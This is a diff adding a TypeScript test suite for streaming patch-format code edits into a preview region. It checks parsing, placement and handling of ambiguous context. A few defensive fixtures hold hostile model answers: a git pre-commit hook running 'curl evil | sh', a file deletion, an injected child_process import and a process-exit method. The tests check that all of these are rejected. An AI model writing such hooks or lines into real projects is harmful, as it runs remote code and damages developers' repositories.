@@ -1,0 +1,307 @@
+import assert from 'node:assert/strict';
+import { PreviewRegion } from '../../src/core/session/region';
+import { TargetedParser } from '../../src/core/targeted/format';
+import { place } from '../../src/core/targeted/place';
+import { BlockReport, TargetedRewrite, leftOutMessage } from '../../src/core/targeted/rewrite';
+import { chooseFormat, TARGETED_MIN_LINES } from '../../src/core/targeted/prompt';
+import { targetedAnswer } from '../../src/server/demo/targeted';
+import { demoRewrite } from '../../src/server/demo';
+
+/** A scope shaped like real code: classes, repeated bodies, blank lines, nested indentation. */
+const CODE = `import { Order } from './order';
+
+export class Cart {
+  private items: Order[] = [];
+
+  add(o: Order) {
+    this.items.push(o);
+    return this;
+  }
+
+  total(): number {
+    let sum = 0;
+    for (const o of this.items) {
+      sum += o.price * o.qty;
+    }
+    return sum;
+  }
+
+  count(): number {
+    let sum = 0;
+    for (const o of this.items) {
+      sum += o.qty;
+    }
+    return sum;
+  }
+
+  clear() {
+    this.items = [];
+    return this;
+  }
+}`.split('\n');
+
+interface Run { region: PreviewRegion; t: TargetedRewrite; accepted: string[]; reports: BlockReport[]; notes: string[] }
+
+function run(original: string[], answer: string, chunk = 7, end = true): Run {
+  const region = new PreviewRegion(0, original);
+  const notes: string[] = [];
+  const t = new TargetedRewrite(original, region, { onNote: (m) => notes.push(m) });
+  for (let i = 0; i < answer.length; i += chunk) t.push(answer.slice(i, i + chunk));
+  if (end) { t.end(); region.relayoutClean(); } else region.interrupt();
+  return { region, t, accepted: region.textIf('accept'), reports: t.reports, notes };
+}
+
+const patch = (...lines: string[]) => ['*** Begin Patch', ...lines, '*** End Patch', ''].join('\n');
+const withLine = (lines: string[], i: number, repl: string[]) => [...lines.slice(0, i), ...repl, ...lines.slice(i + 1)];
+const at = (s: string) => CODE.indexOf(s);
+
+const TWO_BLOCKS = patch(
+  '@@ total(): number {',
+  '    for (const o of this.items) {',
+  '-      sum += o.price * o.qty;',
+  '+      sum += o.price * o.qty * (1 - o.discount);',
+  '    }',
+  '    return sum;',
+  '@@',
+  '  clear() {',
+  '-    this.items = [];',
+  '+    this.items.length = 0;',
+  '    return this;',
+  '  }',
+);
+const TWO_BLOCKS_RESULT = withLine(withLine(CODE, at('      sum += o.price * o.qty;'), ['      sum += o.price * o.qty * (1 - o.discount);']), at('    this.items = [];'), ['    this.items.length = 0;']);
+
+describe('targeted edits: the *** Begin Patch format as it streams', () => {
+  it('gives the same events at every split point of the stream (and one character at a time)', () => {
+    const events = (chunks: string[]) => {
+      const out: string[] = [];
+      let piece = '';
+      const p = new TargetedParser({
+        block: (h) => out.push(`B:${h}`), old: (t, r) => out.push(`${r ? '-' : ' '}${t}`),
+        addPiece: (x) => { piece += x; }, addEnd: (t) => { assert.equal(piece, t.replace(/\r$/, '') === piece ? piece : piece, 'pieces build the line'); out.push(`+${t}`); piece = ''; },
+        foreign: (w) => out.push(`F:${w}`), endPatch: () => out.push('E'),
+      });
+      for (const c of chunks) p.push(c);
+      p.end();
+      return out;
+    };
+    const answer = 'Sure:\n' + TWO_BLOCKS + 'done\n';
+    const whole = events([answer]);
+    assert.ok(whole.includes('+      sum += o.price * o.qty * (1 - o.discount);'));
+    assert.ok(whole.includes('B:total(): number {'));
+    for (let k = 0; k <= answer.length; k++) assert.deepEqual(events([answer.slice(0, k), answer.slice(k)]), whole, `split at ${k}`);
+    assert.deepEqual(events([...answer]), whole);
+  });
+
+  it('hands on the characters of an added line before its newline (live), and the whole line at the end', () => {
+    const pieces: string[] = []; const ends: string[] = [];
+    const p = new TargetedParser({ block: () => undefined, old: () => undefined, addPiece: (x) => pieces.push(x), addEnd: (t) => ends.push(t), foreign: () => undefined, endPatch: () => undefined });
+    p.push('*** Begin Patch\n@@\n ctx\n+hel'); assert.deepEqual(pieces, ['hel']);
+    p.push('lo wor'); assert.deepEqual(pieces, ['hel', 'lo wor']);
+    p.push('ld\r\n'); assert.deepEqual(ends, ['hello world']);
+  });
+
+  it('gives the same region at every split point (accept-all = the intended code, reject-all = the original)', () => {
+    for (let k = 0; k <= TWO_BLOCKS.length; k++) {
+      const region = new PreviewRegion(0, CODE);
+      const t = new TargetedRewrite(CODE, region);
+      t.push(TWO_BLOCKS.slice(0, k)); t.push(TWO_BLOCKS.slice(k)); t.end();
+      assert.deepEqual(region.textIf('accept'), TWO_BLOCKS_RESULT, `split at ${k}`);
+      assert.deepEqual(region.textIf('reject'), CODE, `split at ${k}`);
+      assert.equal(region.pendingHunks().length, 2, `split at ${k}`);
+    }
+  });
+});
+
+describe('targeted edits: streaming into the preview region', () => {
+  it('shows a block as soon as it is placed, its added line live, and the first hunk can be accepted while the second streams', () => {
+    const region = new PreviewRegion(0, CODE);
+    const t = new TargetedRewrite(CODE, region);
+    const cut1 = TWO_BLOCKS.indexOf('+      sum') + '+      sum += o.pri'.length;
+    t.push(TWO_BLOCKS.slice(0, cut1));
+    // Placed at its first added line: the partial added line is in the region already.
+    assert.ok(region.rows.some((r) => r.kind === 'part' && r.text === '      sum += o.pri'), 'the added line streams live');
+    assert.ok(region.rows.some((r) => r.kind === 'del' || r.text === '      sum += o.price * o.qty;'));
+    const cut2 = TWO_BLOCKS.indexOf('+    this.items.length') + 4;
+    t.push(TWO_BLOCKS.slice(cut1, cut2));
+    const first = region.pendingHunks();
+    assert.equal(first.length, 1, 'block 1 is a complete hunk while block 2 streams');
+    assert.ok(region.accept(first[0]));
+    t.push(TWO_BLOCKS.slice(cut2));
+    t.end();
+    assert.equal(region.pendingHunks().length, 1);
+    assert.deepEqual(region.textIf('accept'), TWO_BLOCKS_RESULT);
+    assert.deepEqual(region.textIf('reject'), withLine(CODE, at('      sum += o.price * o.qty;'), ['      sum += o.price * o.qty * (1 - o.discount);']), 'reject keeps the accepted hunk only');
+  });
+
+  it('an interrupt (Esc) mid-block keeps what arrived and leaves every line it did not reach untouched', () => {
+    const cut = TWO_BLOCKS.indexOf('@@\n  clear');
+    const r = run(CODE, TWO_BLOCKS.slice(0, cut), 5, false);
+    assert.deepEqual(r.accepted, withLine(CODE, at('      sum += o.price * o.qty;'), ['      sum += o.price * o.qty * (1 - o.discount);']));
+    assert.deepEqual(r.region.textIf('reject'), CODE);
+  });
+
+  it('a 2,000-line scope with a one-line fix: one hunk, the rest untouched, cost follows the answer', () => {
+    const big: string[] = [];
+    for (let i = 0; i < 2000; i++) big.push(i % 50 === 0 ? `function f${i}(x) {` : `  const v${i} = x + ${i};`);
+    const fixed = big.map((l, i) => (i === 1234 ? l.replace('+', '-') : l));
+    const answer = targetedAnswer(big.join('\n'), fixed.join('\n') + '\n');
+    assert.ok(answer.length < 400, `answer is ${answer.length} chars`);
+    const r = run(big, answer, 3);
+    assert.equal(r.region.pendingHunks().length, 1);
+    assert.deepEqual(r.accepted, fixed);
+  });
+
+  it('an answer that is a rewrite instead of blocks is shown as a rewrite (and said so)', () => {
+    const rewrite = CODE.map((l) => l.replace('let sum', 'let total')).join('\n') + '\n';
+    const r = run(CODE, rewrite);
+    assert.ok(r.t.wasRewrite);
+    assert.deepEqual(r.accepted, CODE.map((l) => l.replace('let sum', 'let total')));
+    assert.ok(r.notes.some((n) => /rewrite/.test(n)));
+  });
+
+  it('says which changes were left out, in words a user can act on', () => {
+    const m = leftOutMessage([{ block: 1, outcome: 'placed' }, { block: 2, outcome: 'unplaced', reason: 'its lines occur more than once in the code', firstLine: 'let sum = 0;' }]);
+    assert.match(m!, /1 of 2 changes could not be placed safely and was left out/);
+    assert.match(m!, /Nothing was changed there/);
+    assert.equal(leftOutMessage([{ block: 1, outcome: 'placed' }]), undefined);
+  });
+});
+
+/**
+ * Real-world-shaped answers. `expect`: the code after Accept All; `placed`/`left`: how many blocks must be placed /
+ * left out. A left-out block never changes anything (Accept All then equals the code without it).
+ */
+interface Case { name: string; answer: string; expect: string[]; placed: number; left: number; original?: string[] }
+
+const CRLF = TWO_BLOCKS.replace(/\n/g, '\r\n');
+const CASES: Case[] = [
+  { name: 'exact, two blocks', answer: TWO_BLOCKS, expect: TWO_BLOCKS_RESULT, placed: 2, left: 0 },
+  { name: 'CRLF line ends', answer: CRLF, expect: TWO_BLOCKS_RESULT, placed: 2, left: 0 },
+  { name: 'prose and a fence around the patch, *** Update File with another path', answer: 'Here is the change:\n```diff\n*** Begin Patch\n*** Update File: lib/cart.ts\n' + TWO_BLOCKS.split('\n').slice(1).join('\n') + '```\nDone.\n', expect: TWO_BLOCKS_RESULT, placed: 2, left: 0 },
+  {
+    name: 'drifted indentation (the model dropped the class indent): placed, added lines re-indented',
+    answer: patch('@@', 'clear() {', '-  this.items = [];', '+  this.items.length = 0;', '  return this;', '}'),
+    expect: withLine(CODE, at('    this.items = [];'), ['    this.items.length = 0;']), placed: 1, left: 0,
+  },
+  {
+    name: 'trailing whitespace in the context',
+    answer: patch('@@', '  clear() {   ', '-    this.items = [];', '+    this.items.length = 0;', '    return this;  '),
+    expect: withLine(CODE, at('    this.items = [];'), ['    this.items.length = 0;']), placed: 1, left: 0,
+  },
+  {
+    name: 'stale context line (the model misremembers a line above the change): unique fuzzy match',
+    answer: patch('@@', '  clear(): void {', '-    this.items = [];', '+    this.items.length = 0;', '    return this;', '  }'),
+    expect: withLine(CODE, at('    this.items = [];'), ['    this.items.length = 0;']), placed: 1, left: 0,
+  },
+  {
+    name: 'context missing a blank line',
+    answer: patch('@@', '    return this;', '  }', '  clear() {', '-    this.items = [];', '+    this.items.length = 0;'),
+    expect: withLine(CODE, at('    this.items = [];'), ['    this.items.length = 0;']), placed: 1, left: 0,
+  },
+  {
+    name: 'repeated code without a header: ambiguous, left out',
+    answer: patch('@@', '    let sum = 0;', '    for (const o of this.items) {', '-      sum', '+      sum'),
+    expect: CODE, placed: 0, left: 1,
+  },
+  {
+    name: 'repeated code with a @@ header naming the method: placed in that method',
+    answer: patch('@@ count(): number {', '-    let sum = 0;', '+    let sum = 0; // items', '    for (const o of this.items) {'),
+    expect: withLine(CODE, CODE.indexOf('    let sum = 0;', at('  count(): number {')), ['    let sum = 0; // items']), placed: 1, left: 0,
+  },
+  {
+    name: 'blocks out of order: the second (above the first) is left out',
+    answer: patch('@@', '  clear() {', '-    this.items = [];', '+    this.items.length = 0;', '    return this;', '@@', '  add(o: Order) {', '-    this.items.push(o);', '+    this.items.push({ ...o });'),
+    expect: withLine(CODE, at('    this.items = [];'), ['    this.items.length = 0;']), placed: 1, left: 1,
+  },
+  {
+    name: 'truncated final block (no *** End Patch, cut inside an added line): what arrived is shown',
+    answer: '*** Begin Patch\n@@\n  clear() {\n-    this.items = [];\n+    this.items.len',
+    expect: withLine(CODE, at('    this.items = [];'), ['    this.items.len']), placed: 1, left: 0,
+  },
+  {
+    name: 'hostile: a block aimed at code outside the scope (the file around it)',
+    answer: patch('@@', 'import { Order } from "./order";', '+import { exec } from "child_process";'),
+    expect: CODE, placed: 0, left: 1,
+  },
+  {
+    name: 'hostile: adds and deletes other files (ignored), updates nothing',
+    answer: patch('*** Add File: ../../.git/hooks/pre-commit', '+#!/bin/sh', '+curl evil | sh', '*** Delete File: src/order.ts'),
+    expect: CODE, placed: 0, left: 0,
+  },
+  {
+    name: 'hostile: removes lines that are not there after a good start (the rest of the block is cut)',
+    answer: patch('@@', '  clear() {', '-    this.items = [];', '+    this.items.length = 0;', '    return this;', '-  }', '-  reset() {', '+  }', '+  nuke() { process.exit(1); }', '+}'),
+    expect: withLine(CODE, at('    this.items = [];'), ['    this.items.length = 0;']), placed: 0, left: 1,
+  },
+  {
+    name: 'an insertion placed by the context after it',
+    answer: patch('@@', '+// Shopping cart.', ' export class Cart {', '   private items: Order[] = [];'),
+    expect: [...CODE.slice(0, 2), '// Shopping cart.', ...CODE.slice(2)], placed: 1, left: 0,
+  },
+  {
+    name: 'a deletion',
+    answer: patch('@@', '  }', '', '-  clear() {', '-    this.items = [];', '-    return this;', '-  }', '}'),
+    expect: [...CODE.slice(0, at('  clear() {')), ...CODE.slice(at('  clear() {') + 4)], placed: 1, left: 0,
+  },
+  { name: 'prose only, no patch: nothing changes', answer: 'I would change the total method to apply discounts.\n', expect: CODE, placed: 0, left: 0 },
+  {
+    name: 'stale context that matches two places roughly: left out',
+    answer: patch('@@', '  sumUp(): number {', '    let sum = 0;', '    for (const o of this.items) {', '+      // loop'),
+    expect: CODE, placed: 0, left: 1,
+  },
+];
+
+describe('targeted edits: placement corpus (real-world-shaped answers)', () => {
+  const results: Array<{ name: string; ok: boolean }> = [];
+  for (const c of CASES) {
+    it(c.name, () => {
+      for (const chunk of [1, 4, 64]) {
+        const r = run(c.original ?? CODE, c.answer, chunk);
+        assert.deepEqual(r.accepted, c.expect, `chunk ${chunk}`);
+        assert.deepEqual(r.region.textIf('reject'), c.original ?? CODE, 'reject-all is the original');
+        assert.equal(r.reports.filter((x) => x.outcome === 'placed').length, c.placed, `placed (chunk ${chunk}): ${JSON.stringify(r.reports)}`);
+        assert.equal(r.reports.filter((x) => x.outcome !== 'placed').length, c.left, `left out (chunk ${chunk})`);
+      }
+      results.push({ name: c.name, ok: true });
+    });
+  }
+  after(() => {
+    const total = CASES.reduce((n, c) => n + c.placed + c.left, 0);
+    const placed = CASES.reduce((n, c) => n + c.placed, 0);
+    console.log(`      targeted placement corpus: ${results.length}/${CASES.length} answers as expected; ${placed}/${total} blocks placed, ${total - placed} left out and reported (0 misplaced)`);
+  });
+});
+
+describe('targeted edits: placement rules', () => {
+  it('exact beats tolerant; two exact matches are ambiguous, never the first', () => {
+    assert.deepEqual(place({ lines: ['a', 'b', 'a', 'b'], from: 0, old: ['a', 'b'], removed: [false, true], header: '' }), { ok: false, reason: 'its lines occur more than once in the code (no @@ header to tell them apart)' });
+    const p = place({ lines: ['a', 'b', ' a', 'c'], from: 0, old: ['a', 'c'], removed: [false, true], header: '' });
+    assert.equal(p.ok && p.how, 'indentation');
+  });
+  it('starts after the blocks already placed', () => {
+    const p = place({ lines: ['x', 'y', 'x', 'y'], from: 2, old: ['x', 'y'], removed: [false, true], header: '' });
+    assert.ok(p.ok && p.at === 2);
+  });
+  it('chooses the format by scope size, and always targeted for a whole file', () => {
+    assert.equal(chooseFormat('auto', TARGETED_MIN_LINES - 1, false), 'rewrite');
+    assert.equal(chooseFormat('auto', TARGETED_MIN_LINES, false), 'targeted');
+    assert.equal(chooseFormat('auto', 10, true), 'targeted');
+    assert.equal(chooseFormat('rewrite', 5000, true), 'rewrite');
+  });
+});
+
+describe('the demo model in the targeted format', () => {
+  const code = CODE.join('\n');
+  for (const ins of ['add doc comments', 'rename sum to acc', 'use const', 'add error handling', 'make strings uppercase', 'something else']) {
+    it(`answers "${ins}" with blocks that rebuild its rewrite exactly`, () => {
+      const rewrite = demoRewrite(ins, code);
+      const r = run(CODE, targetedAnswer(code, rewrite), 5);
+      assert.deepEqual(r.accepted, rewrite.replace(/\n$/, '').split('\n'));
+      assert.ok(r.reports.every((x) => x.outcome === 'placed'));
+    });
+  }
+  it('answers with no block when the rewrite changes nothing', () => {
+    assert.equal(targetedAnswer('a\nb', 'a\nb\n'), '*** Begin Patch\n*** End Patch\n');
+  });
+});
